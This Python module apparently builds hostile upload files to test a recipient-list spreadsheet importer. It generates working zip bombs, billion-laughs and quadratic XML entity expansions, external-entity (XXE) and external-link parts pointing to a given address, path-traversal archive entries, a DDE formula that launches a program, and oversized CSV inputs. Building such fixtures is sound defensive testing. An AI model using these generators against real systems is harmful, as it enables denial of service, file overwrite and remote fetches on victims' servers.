"""Recipient files that strangers may send to do harm, made by code: each small to send, large to read."""

from __future__ import annotations

import io
import itertools
import struct
import zipfile
from collections.abc import Callable, Iterable, Iterator

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_ROWS = '<row r="1"><c r="A1" t="inlineStr"><is><t>13800138000</t></is></c></row>'
NUMBER = "13800138000"

_TYPES = f"""<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="{_TYPE}.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_TYPE}.worksheet+xml"/>
<Override PartName="/xl/sharedStrings.xml" ContentType="{_TYPE}.sharedStrings+xml"/></Types>"""
_RELATIONS = f"""<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships">
<Relationship Id="rId1" Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>"""
_WORKBOOK = f"""<?xml version="1.0"?><workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}">
<sheets><sheet name="Numbers" sheetId="1" r:id="rId1"/></sheets></workbook>"""
_PARTS = f"""<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships">
<Relationship Id="rId1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>
<Relationship Id="rId2" Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>"""

Content = str | bytes | Iterable[bytes]


def sheet(rows: str, before: str = "") -> str:
    """The XML of a sheet with these rows."""
    return (
        f'<?xml version="1.0"?>{before}<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    )


def workbook(**parts: Content) -> bytes:
    """A workbook of one number; `sheet`, `strings` and `book` replace a part, others are added by name."""
    names = {"sheet": SHEET, "strings": STRINGS, "book": "xl/workbook.xml"}
    content: dict[str, Content] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _RELATIONS,
        "xl/workbook.xml": _WORKBOOK,
        "xl/_rels/workbook.xml.rels": _PARTS,
        STRINGS: f'<sst xmlns="{_MAIN}"/>',
        SHEET: sheet(_ROWS),
    }
    return archive(content | {names.get(name, name): part for name, part in parts.items()})


def archive(parts: dict[str, Content]) -> bytes:
    """A zip archive, however large its parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made:
        for name, part in parts.items():
            pieces = [part] if isinstance(part, bytes) else [part.encode()] if isinstance(part, str) else part
            with made.open(name, "w") as stream:
                for piece in pieces:
                    stream.write(piece)
    return file.getvalue()


def _repeated(before: str, piece: str, times: int, after: str) -> Iterator[bytes]:
    block = piece.encode() * 1000
    return itertools.chain([before.encode()], itertools.repeat(block, times // 1000), [after.encode()])


def _sheet_of(piece: str, times: int) -> Iterator[bytes]:
    head, tail = sheet("|").split("|")
    return _repeated(head, piece, times, tail)


def zip_bomb() -> bytes:
    """Gigabytes of one octet, as its directory says."""
    return workbook(**{"xl/media/image1.png": itertools.repeat(bytes(2**24), 70)})


def nested_zip_bomb() -> bytes:
    """Bombs inside a bomb."""
    inner = archive({f"{number}": bytes(2**24) for number in range(8)})
    return workbook(**{f"xl/embeddings/{number}.zip": inner for number in range(200)})


def lying_zip_bomb() -> bytes:
    """A sheet of 500 MB whose headers promise 100 octets."""
    content = bytearray(workbook(sheet=_sheet_of("<row/>" + " " * 994, 500_000)))
    directory = content.rindex(b"PK\x05\x06")
    place = struct.unpack_from("<I", content, directory + 16)[0]
    while content[place : place + 4] == b"PK\x01\x02":
        name, extra, comment = struct.unpack_from("<HHH", content, place + 28)
        if content[place + 46 : place + 46 + name] == SHEET.encode():
            struct.pack_into("<I", content, place + 24, 100)
        place += 46 + name + extra + comment
    return bytes(content)


def billion_laughs() -> bytes:
    """Entities of entities of entities, in a cell."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    return workbook(
        sheet=sheet(_ROWS.replace(NUMBER, "&e11;"), f'<!DOCTYPE w [<!ENTITY e0 "1">{entities}]>'),
        book=_WORKBOOK.replace("<workbook", f'<!DOCTYPE w [<!ENTITY e0 "1">{entities}]><workbook', 1).replace(
            "Numbers", "&e11;"
        ),
    )


def quadratic_entity() -> bytes:
    """One long entity, used a hundred thousand times."""
    text = f'<!DOCTYPE w [<!ENTITY e "{"1" * 100_000}">]>'
    return workbook(
        sheet=sheet(_ROWS.replace(NUMBER, "&e;" * 100_000), text),
        book=_WORKBOOK.replace("<workbook", f"{text}<workbook", 1).replace("Numbers", "&e;" * 100_000),
    )


def external_entity(address: str) -> bytes:
    """Entities and a DTD that are to be fetched from `address`, in every part that is read."""
    entities = f'<!ENTITY e SYSTEM "{address}/entity"><!ENTITY % p SYSTEM "{address}/p">%p;'
    dtd = f'<!DOCTYPE w SYSTEM "{address}/dtd" [{entities}]>'
    return workbook(
        sheet=sheet(_ROWS.replace(NUMBER, f"{NUMBER}&e;"), dtd),
        book=_WORKBOOK.replace("<workbook", f"{dtd}<workbook", 1),
        strings=f'<?xml version="1.0"?>{dtd}<sst xmlns="{_MAIN}"><si><t>&e;</t></si></sst>',
    )


def external_links(address: str) -> bytes:
    """Relations to places elsewhere: nothing of it is needed, and nothing may be asked for."""
    kind = f'TargetMode="External" Type="{_OFFICE}/externalLinkPath"'
    target = f'<Relationship Id="rId9" {kind} Target="{address}"/>'
    relations = f'<Relationships xmlns="{_PACKAGE}/relationships">{target}</Relationships>'
    return workbook(
        **{
            "xl/_rels/workbook.xml.rels": _PARTS.replace("</Relationships>", f"{target}</Relationships>"),
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_MAIN}"/>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations,
            "xl/worksheets/_rels/sheet1.xml.rels": relations,
        }
    )


def shared_strings() -> bytes:
    """200 MB of texts that no cell uses."""
    piece = f"<si><t>{'1' * 987}</t></si>"
    return workbook(strings=_repeated(f'<sst xmlns="{_MAIN}">', piece, 200_000, "</sst>"))


def farthest_corner() -> bytes:
    """Two cells, between which lie seventeen thousand million."""
    return workbook(sheet=sheet(f'{_ROWS}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))


def beyond_any_corner() -> bytes:
    """A row and a column that no spreadsheet has."""
    return workbook(sheet=sheet('<row r="4294967295"><c r="ZZZZZZ4294967295"><v>1</v></c></row>'))


def empty_rows() -> bytes:
    """A million rows with nothing in them."""
    return workbook(sheet=_sheet_of('<row><c s="0"/></row>', 1_000_000))


def wide_row() -> bytes:
    """A million cells in one row."""
    head, tail = sheet("<row>|</row>").split("|")
    return workbook(sheet=_repeated(head, "<c><v>1</v></c>", 1_000_000, tail))


def deep_elements() -> bytes:
    """A million elements, each inside the one before."""
    return workbook(
        sheet=_repeated(f'<worksheet xmlns="{_MAIN}">', "<sheetData>", 1_000_000, ""),
        book=_repeated("", "<workbook>", 1_000_000, ""),
    )


def formulas() -> bytes:
    """One formula with a result, one that nobody has calculated, and one that would call a program."""
    return workbook(
        sheet=sheet(
            f'<row r="1"><c r="A1"><f>13800138000+0</f><v>{NUMBER}</v></c></row>'
            '<row r="2"><c r="A2"><f>13800138001+0</f></c></row>'
            '<row r="3"><c r="A3" t="str"><f>cmd|\'/C calc\'!A0</f></c></row>'
        )
    )


def many_parts() -> bytes:
    """A hundred thousand entries."""
    return workbook(**{f"xl/media/{number}": b"" for number in range(100_000)})


def path_traversal() -> bytes:
    """Parts that, unpacked by name, would lie elsewhere."""
    return workbook(**{"../../../../tmp/groupsms-attack": b"x", "/etc/groupsms-attack": b"x"})


def cut_short() -> bytes:
    """Half of a workbook."""
    whole = workbook()
    return whole[: len(whole) // 2]


def encrypted() -> bytes:
    """What Excel makes of a workbook with a password, as far as anybody looks."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016) + "EncryptedPackage".encode("utf-16-le")


def polyglot() -> bytes:
    """A PDF that is a workbook, too."""
    return b"%PDF-1.7\n" + workbook()


def one_line() -> bytes:
    """A line of 15 MB without an end."""
    return b"1" * (15 * 2**20)


def many_columns() -> bytes:
    """A line of millions of cells."""
    return b"1," * (7 * 2**20)


def quotes() -> bytes:
    """Nothing but quotation marks, which pair up at every place and none."""
    return b'"' * (15 * 2**20 + 1)


def wide_characters(encoding: str) -> Callable[[], bytes]:
    """Text that takes up to four times its characters."""

    def make() -> bytes:
        mark = {"utf-16": b"\xff\xfe", "utf-32": b"\xff\xfe\0\0"}[encoding]
        return mark + ("１" * 200_000 + "\n").encode(f"{encoding}-le") * (16 if encoding == "utf-32" else 30)

    return make
